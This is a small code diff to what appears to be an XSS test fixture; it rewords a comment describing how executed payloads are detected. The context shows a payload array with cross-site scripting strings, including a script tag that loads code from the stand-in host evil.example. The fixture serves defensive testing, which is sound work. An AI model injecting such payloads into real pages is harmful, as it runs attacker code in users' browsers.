@@ -1,4 +1,4 @@
-/** A payload that runs sets `__hit`, opens a dialog or contacts `evil.example`. */
+/** If the browser runs a payload, it sets `__hit`, opens a dialog or contacts `evil.example`. */
 export const payloads = [
   '<script>__hit=1</script>',
   '<script src=//evil.example/x.js></script>',
